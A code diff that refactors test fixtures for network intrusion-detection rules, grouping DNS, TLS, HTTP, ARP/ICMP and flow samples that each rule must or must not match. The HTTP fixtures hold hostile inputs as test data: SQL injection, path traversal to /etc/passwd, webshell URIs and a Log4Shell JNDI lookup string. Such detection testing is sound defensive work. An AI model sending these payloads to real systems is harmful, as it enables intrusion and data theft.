@@ -69,12 +69,10 @@ def capture(dropped: int) -> list[Observation]:
     return [Reporter("sensor-1", "eth0").capture(counts, START)]
 
 
-def samples() -> dict[str, tuple[list[Observation], list[Observation]]]:
-    """Rule -> (events it must match, events it must not match)."""
-    moved = [craft.arp(2, craft.THERE, craft.HERE), craft.arp(2, craft.THERE, craft.HERE, sender_mac=craft.MAC_THERE)]
-    steady = [craft.arp(1, craft.HERE, craft.THERE), craft.arp(2, craft.HERE, craft.HERE)]
-    basic = {"Authorization": "Basic YWRtaW46c2VjcmV0"}
-    jndi = "${jndi:ldap://203.0.113.9/a}"
+Samples = dict[str, tuple[list[Observation], list[Observation]]]  # rule -> it must match, it must not
+
+
+def name_samples() -> Samples:
     return {
         "dns_long_first_label": (
             query(f"{LABEL}.t.drill.invalid", port=15353, server=RESOLVER)
@@ -94,6 +92,11 @@ def samples() -> dict[str, tuple[list[Observation], list[Observation]]]:
             query("office.f3322.net") + query("home1.duckdns.org"),
             query("3322.example.gov.cn") + query("www.duckdns.org.example.gov.cn"),
         ),
+    }
+
+
+def tls_samples() -> Samples:
+    return {
         "tls_legacy_version": (
             chosen(0x002F, 0x0301) + chosen(0x000A, 0x0300),
             chosen(0xC02F, 0x0303) + chosen(0x1301, 0x0303, 0x0304) + chosen(0xE013, 0x0101),
@@ -104,28 +107,47 @@ def samples() -> dict[str, tuple[list[Observation], list[Observation]]]:
         ),
         "tls_nameless_high_port": (
             hello("", 4_444, craft.PUBLIC),
-            hello("", 4_444, craft.THERE) + hello("a.example.cn", 4_444, craft.PUBLIC) + hello("", 443, craft.PUBLIC),
+            hello("", 4_444, craft.THERE)
+            + hello("a.example.cn", 4_444, craft.PUBLIC)
+            + hello("", 443, craft.PUBLIC),
         ),
+    }
+
+
+def http_samples() -> Samples:
+    basic = {"Authorization": "Basic YWRtaW46c2VjcmV0"}
+    jndi = "${jndi:ldap://203.0.113.9/a}"
+    return {
         "http_scanner_user_agent": (
             request("/", agent="sqlmap/1.8#stable (https://sqlmap.org)")
             + request("/", agent="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)"),
-            request("/", agent="Mozilla/5.0 (X11; Linux x86_64) Firefox/145.0") + request("/nikto", agent="curl/8.5"),
+            request("/", agent="Mozilla/5.0 (X11; Linux x86_64) Firefox/145.0")
+            + request("/nikto", agent="curl/8.5"),
         ),
         "http_path_traversal": (
             request("/download?file=../../../../etc/passwd") + request("/static/..%2f..%2f..%2fetc/hosts"),
             request("/static/../app.css") + request("/help/etc/passwd-policy.html"),
         ),
         "http_webshell_uri": (
-            request("/images/c99.php") + request("/upload/2026/a.jsp?cmd=whoami") + request("/img/logo.asp;.jpg"),
-            request("/upload/2026/report.pdf") + request("/admin/run.php?cmd=status") + request("/upload/list.jsp?page=2"),
+            request("/images/c99.php")
+            + request("/upload/2026/a.jsp?cmd=whoami")
+            + request("/img/logo.asp;.jpg"),
+            request("/upload/2026/report.pdf")
+            + request("/admin/run.php?cmd=status")
+            + request("/upload/list.jsp?page=2"),
         ),
         "http_sql_injection": (
             request("/item?id=1%20UNION%20SELECT%20user,password%20from%20users")
-            + request("/item?id=1'%20or%20'1'='1") + request("/item?id=1;waitfor+delay+'0:0:5'"),
-            request("/search?q=trade+union+selection+results") + request("/item?name=O'Brien") + request("/select?from=a&union=b"),
+            + request("/item?id=1'%20or%20'1'='1")
+            + request("/item?id=1;waitfor+delay+'0:0:5'"),
+            request("/search?q=trade+union+selection+results")
+            + request("/item?name=O'Brien")
+            + request("/select?from=a&union=b"),
         ),
         "http_jndi_lookup": (
-            request(f"/login?name={jndi}") + request("/", agent=jndi) + request("/", Referer="${${lower:j}ndi:rmi://x}"),
+            request(f"/login?name={jndi}")
+            + request("/", agent=jndi)
+            + request("/", Referer="${${lower:j}ndi:rmi://x}"),
             request("/docs/jndi.html") + request("/api?q=${name}"),
         ),
         "http_sensitive_file_probe": (
@@ -134,14 +156,28 @@ def samples() -> dict[str, tuple[list[Observation], list[Observation]]]:
         ),
         "http_basic_credentials": (
             request("/nas/", **basic),
-            request("/nas/") + request("/nas/", destination="127.0.0.1", **basic) + request("/", Authorization="Bearer abc"),
+            request("/nas/")
+            + request("/nas/", destination="127.0.0.1", **basic)
+            + request("/", Authorization="Bearer abc"),
         ),
+    }
+
+
+def neighbour_samples() -> Samples:
+    moved = [
+        craft.arp(2, craft.THERE, craft.HERE),
+        craft.arp(2, craft.THERE, craft.HERE, sender_mac=craft.MAC_THERE),
+    ]
+    steady = [craft.arp(1, craft.HERE, craft.THERE), craft.arp(2, craft.HERE, craft.HERE)]
+    return {
         "icmpv6_router_advertisement": (
             only("net.icmp", craft.router_advertisement()),
-            only("net.icmp", craft.router_advertisement(lifetime=0)) + only("net.icmp", craft.discovery(133, bytes(4))),
+            only("net.icmp", craft.router_advertisement(lifetime=0))
+            + only("net.icmp", craft.discovery(133, bytes(4))),
         ),
         "icmp_redirect": (
-            only("net.icmp", craft.icmp(5, 1)) + only("net.icmp", craft.discovery(137, bytes(36), destination="fe80::80")),
+            only("net.icmp", craft.icmp(5, 1))
+            + only("net.icmp", craft.discovery(137, bytes(36), destination="fe80::80")),
             only("net.icmp", craft.icmp(8)) + only("net.icmp", craft.icmp(3, 1)),
         ),
         "arp_address_moved": (only("net.arp", *moved)[1:], only("net.arp", *steady)),
@@ -149,21 +185,37 @@ def samples() -> dict[str, tuple[list[Observation], list[Observation]]]:
             only("net.arp", craft.arp(2, craft.THERE, craft.HERE, frame_mac="02:00:00:00:00:66")),
             only("net.arp", *steady),
         ),
+    }
+
+
+def flow_samples() -> Samples:
+    refused = [
+        craft.tcp(b"", 40_000, 23, craft.SYN),
+        craft.tcp(b"", 23, 40_000, craft.RST, 0, craft.THERE, craft.HERE),
+    ]
+    unanswered = craft.tcp(b"", 40_000, 445, craft.SYN, destination=craft.PUBLIC)
+    return {
         "conn_cleartext_login_service": (
             flow(23) + flow(21),
-            flow(22) + only("net.flow", craft.tcp(b"", 40_000, 23, craft.SYN), craft.tcp(b"", 23, 40_000, craft.RST, 0, craft.THERE, craft.HERE)),
+            flow(22) + only("net.flow", *refused),
         ),
         "conn_smb_outbound": (
-            flow(445, craft.PUBLIC) + only("net.flow", craft.tcp(b"", 40_000, 445, craft.SYN, destination=craft.PUBLIC)),
+            flow(445, craft.PUBLIC) + only("net.flow", unanswered),
             flow(445) + flow(443, craft.PUBLIC),
         ),
         "capture_packets_lost": (capture(17), capture(0)),
-    }  # fmt: skip
+    }
+
+
+def samples() -> Samples:
+    return name_samples() | tls_samples() | http_samples() | neighbour_samples() | flow_samples()
 
 
 def write(path: Path, seen: list[Observation]) -> None:
     path.parent.mkdir(parents=True, exist_ok=True)
-    events = (stamp(one, unit="510100", sensor="sensor-1", epoch=1, sequence=n) for n, one in enumerate(seen, 1))
+    events = (
+        stamp(one, unit="510100", sensor="sensor-1", epoch=1, sequence=n) for n, one in enumerate(seen, 1)
+    )
     path.write_bytes(b"".join(encode(event) + b"\n" for event in events))
 
 
